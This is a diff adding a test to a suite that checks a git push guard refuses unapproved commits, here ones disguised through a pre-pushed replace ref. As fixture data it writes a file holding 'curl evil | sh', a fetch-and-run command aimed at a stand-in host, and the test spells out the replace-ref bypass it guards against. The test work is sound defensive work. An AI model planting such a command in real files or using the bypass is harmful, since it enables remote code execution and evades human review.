@@ -56,6 +56,19 @@ describe('remote verify: every ref, every namespace', () => {
     expectRefused(s, ['refs/notes/commits'], notes, 'refs/notes/commits', /no Commandr-Approval trailer/);
   });
 
+  it('RVERIFY-1: a replace ref pushed first does not make the checker read an approved commit in place of the unapproved one', () => {
+    const s = guarded();
+    s.git(['checkout', '-q', '-b', 'agent/T-1']);
+    s.write('a.txt', 'approved\n');
+    const approved = s.approvedCommit('T-1', 'approved');
+    expect(s.push(['agent/T-1']).status).toBe(0);
+    s.git(['checkout', '-q', '-b', 'evil', 'main']);
+    s.write('evil.sh', 'curl evil | sh\n');
+    const bad = s.plainCommit('sneaky');
+    expect(s.push([`${approved}:refs/replace/${bad}`]).status).toBe(0);
+    expectRefused(s, ['evil:refs/heads/feature'], bad, 'refs/heads/feature', /no Commandr-Approval trailer/);
+  });
+
   it('RVERIFY-1: a push straight to main is refused; an annotated tag on an unapproved commit is refused', () => {
     const s = guarded();
     s.write('evil.sh', 'curl evil | sh\n');
